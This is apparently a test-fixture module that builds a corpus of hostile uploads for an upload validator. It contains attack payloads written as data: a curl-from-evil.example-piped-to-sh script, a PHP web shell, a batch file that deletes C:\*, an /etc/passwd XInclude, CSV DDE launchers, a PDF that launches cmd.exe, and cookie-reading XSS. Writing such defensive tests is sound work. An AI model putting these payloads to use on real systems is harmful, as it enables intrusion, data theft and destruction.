@@ -1,0 +1,172 @@
+"""A corpus of hostile uploads, generated here rather than kept as binary fixtures.
+
+Each entry is a file an attacker would try: executables and scripts under
+harmless names, HTML in disguise, archives, polyglots (a harmless header
+followed by a page, a script or an archive), active PDFs and XML, text that is
+not UTF-8, spreadsheet formulas that start programs. `expected` is None when
+the upload must be refused (415), or the type it must be stored as when the
+file is allowed but only in a safe form (markup stored as itself and served as
+an attachment, a lying name replaced by the real type's extension).
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import tarfile
+import zipfile
+import zlib
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Hostile:
+    id: str
+    name: str
+    data: bytes
+    expected: str | None = None  # None: refused; else the content type it is stored as
+    api_status: int = 415  # what the upload API answers when it is refused
+    api_code: str = "unsupported_file_type"
+
+
+def zip_bytes(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def png_bytes(*, text: bytes = b"") -> bytes:
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
+    extra = chunk(b"tEXt", b"Comment\x00" + text) if text else b""
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + extra
+        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
+        + chunk(b"IEND", b"")
+    )
+
+
+def jpeg_bytes(*, comment: bytes = b"") -> bytes:
+    com = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
+    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + com + b"\x00" * 64 + b"\xff\xd9"
+
+
+def gif_bytes(*, width: bytes = b"\x01\x00") -> bytes:
+    return b"GIF89a" + width + b"\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
+
+
+def pdf_bytes(body: bytes = b"1 0 obj<</Type/Catalog>>endobj\n") -> bytes:
+    return b"%PDF-1.7\n" + body + b"trailer<<>>\n%%EOF\n"
+
+
+def tar_bytes() -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        payload = b"#!/bin/sh\necho pwned\n"
+        info = tarfile.TarInfo("run.sh")
+        info.size = len(payload)
+        archive.addfile(info, io.BytesIO(payload))
+    return buffer.getvalue()
+
+
+PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00" + b"\x00" * 64
+ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
+MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64
+PAGE = b"<html><body><script>fetch('/api/teams/').then(r=>r.text()).then(alert)</script></body></html>"
+SVG_NS = b'xmlns="http://www.w3.org/2000/svg"'
+OOXML_BASE = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
+SETUP_ZIP = zip_bytes({"setup.exe": PE})
+
+
+def corpus() -> list[Hostile]:
+    return [
+        # --- Executables and scripts under harmless names
+        Hostile("pe-as-pdf", "invoice.pdf", PE),
+        Hostile("elf-as-png", "photo.png", ELF),
+        Hostile("macho-as-jpg", "photo.jpg", MACHO),
+        Hostile("wasm-as-txt", "notes.txt", b"\x00asm\x01\x00\x00\x00"),
+        Hostile("flash-as-gif", "banner.gif", b"CWS\x0a" + b"\x00" * 32),
+        Hostile("shebang-as-txt", "notes.txt", b"#!/bin/sh\ncurl https://evil.example | sh\n"),
+        Hostile("bom-shebang-as-txt", "notes.txt", b"\xef\xbb\xbf#!/usr/bin/env python\nimport os\n"),
+        Hostile("batch-as-txt", "readme.txt", b"@echo off\r\ndel /q C:\\*\r\n"),
+        Hostile("php-after-a-line", "notes.txt", b"Stock list\n<?php system($_GET['c']); ?>\n"),
+        Hostile("executable-name", "report.pdf.exe", pdf_bytes()),
+        # --- HTML in disguise
+        Hostile("html-behind-pdf-marker", "report.pdf", b"<!-- %PDF-1.4 -->\n" + PAGE),
+        Hostile("html-after-bom-and-space", "image.png", b"\xef\xbb\xbf \n\t" + PAGE),
+        Hostile("html-after-text", "notes.txt", b"Quarterly notes\n\n" + PAGE),
+        Hostile("utf16-html", "notes.txt", b"\xff\xfe" + PAGE.decode().encode("utf-16-le")),
+        Hostile("xhtml-as-xml", "data.xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
+        Hostile("markdown-with-raw-script", "guide.md", b"# Guide\n\nHello <script>alert(1)</script>\n"),
+        Hostile("markdown-javascript-link", "guide.md", b"# Guide\n\n[Open](javascript:alert(document.cookie))\n"),
+        Hostile("json-with-script", "data.json", b'{"note": "</script><script>alert(1)</script>"}'),
+        Hostile("event-handler-in-csv", "prices.csv", b'name,html\nx,"<img src=x onerror=alert(1)>"\n'),
+        # --- Polyglots: a harmless header followed by something else
+        Hostile("pdf-then-html", "report.pdf", pdf_bytes() + PAGE),
+        Hostile("gif-then-script", "pixel.gif", gif_bytes() + b"<script>alert(1)</script>"),
+        Hostile("gif-javascript", "pixel.gif", gif_bytes(width=b"/*") + b"*/=alert(document.domain);"),
+        Hostile("png-text-chunk-html", "photo.png", png_bytes(text=PAGE)),
+        Hostile("jpeg-comment-pdf", "photo.jpg", jpeg_bytes(comment=b"%PDF-1.4 1 0 obj<<>>endobj")),
+        Hostile("jpeg-with-zip-appended", "photo.jpg", jpeg_bytes() + SETUP_ZIP),
+        Hostile("png-with-zip-appended", "photo.png", png_bytes() + SETUP_ZIP),
+        Hostile("pdf-with-zip-appended", "report.pdf", pdf_bytes() + SETUP_ZIP),
+        Hostile("png-with-rar-appended", "photo.png", png_bytes() + b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32),
+        Hostile("webp-with-page", "photo.webp", b"RIFF\x40\x00\x00\x00WEBPVP8 " + b"\x00" * 16 + PAGE),
+        Hostile("bmp-javascript", "chart.bmp", b"BM/*" + b"\x00" * 10 + struct.pack("<I", 40) + b"\x00" * 40),
+        # --- Archives and documents carrying programs
+        Hostile("zip-with-exe", "docs.zip", SETUP_ZIP),
+        Hostile("zip-as-pdf", "report.pdf", SETUP_ZIP),
+        Hostile("jar-as-docx", "letter.docx", zip_bytes({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b""})),
+        Hostile("docx-with-page", "letter.docx", zip_bytes({**OOXML_BASE, "word/afchunk.htm": PAGE})),
+        Hostile("docx-with-nested-zip", "letter.docx", zip_bytes({**OOXML_BASE, "word/embeddings/p.zip": SETUP_ZIP})),
+        Hostile("xlsm-as-xlsx", "sheet.xlsx", zip_bytes({**OOXML_BASE, "xl/vbaProject.bin": b"\x00"})),
+        Hostile("rar-as-pdf", "report.pdf", b"Rar!\x1a\x07\x00" + b"\x00" * 32),
+        Hostile("7z-as-png", "photo.png", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32),
+        Hostile("gzip-as-txt", "notes.txt", b"\x1f\x8b\x08\x00" + b"\x00" * 32),
+        Hostile("tar-as-txt", "notes.txt", tar_bytes()),
+        Hostile("ole-as-docx", "letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
+        Hostile("rtf-as-txt", "letter.txt", b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}"),
+        # --- Active PDF, SVG and XML
+        Hostile("pdf-javascript", "form.pdf", pdf_bytes(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n")),
+        Hostile("pdf-escaped-javascript", "form.pdf", pdf_bytes(b"1 0 obj<</S/J#61vaScript/J#53(x)>>endobj\n")),
+        Hostile("pdf-launch", "form.pdf", pdf_bytes(b"1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n")),
+        Hostile("pdf-embedded-file", "form.pdf", pdf_bytes(b"1 0 obj<</Type/EmbeddedFile>>endobj\n")),
+        Hostile("svg-script", "logo.svg", b"<svg " + SVG_NS + b"><script>alert(1)</script></svg>"),
+        Hostile("svg-onload", "logo.svg", b"<svg " + SVG_NS + b' onload="alert(1)"/>'),
+        Hostile(
+            "svg-foreign-object", "logo.svg", b"<svg " + SVG_NS + b"><foreignObject>" + PAGE + b"</foreignObject></svg>"
+        ),
+        Hostile("xml-stylesheet", "data.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
+        Hostile(
+            "xml-xinclude",
+            "data.xml",
+            b'<?xml version="1.0"?><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
+        ),
+        Hostile("xml-utf7", "data.xml", b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>'),
+        Hostile("xml-entities", "data.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "xx">]><a>&x;</a>'),
+        # --- Text that is not clean UTF-8, spreadsheet programs
+        Hostile("nul-in-text", "notes.txt", b"hello\x00world\n"),
+        Hostile("latin1-text", "notes.txt", b"caf\xe9 cr\xe8me\n"),
+        Hostile("escape-sequences", "notes.txt", b"ok\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\n"),
+        Hostile("csv-dde", "prices.csv", b"name,price\naspirin,=cmd|' /C calc'!A0\n"),
+        Hostile("csv-dde-function", "prices.csv", b'name,price\naspirin,"=DDE(""cmd"";""/C calc"";""x"")"\n'),
+        # --- Media containers we do not accept
+        Hostile("matroska", "clip.webm", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x88matroska" + b"\x00" * 16),
+        Hostile("avi", "clip.mp4", b"RIFF\x40\x00\x00\x00AVI LIST" + b"\x00" * 32),
+        Hostile("empty", "empty.txt", b"", api_status=400, api_code="validation_error"),
+        # --- Allowed, but only in a safe form
+        Hostile("clean-svg-named-png", "logo.png", b"<svg " + SVG_NS + b' width="1"><rect/></svg>', "image/svg+xml"),
+        Hostile(
+            "plain-xml-named-txt", "order.txt", b'<?xml version="1.0"?><order><id>1</id></order>', "application/xml"
+        ),
+        Hostile("text-named-pdf", "invoice.pdf", b"Invoice 42: aspirin x2\n", "text/plain"),
+    ]
+
+
+CORPUS = corpus()
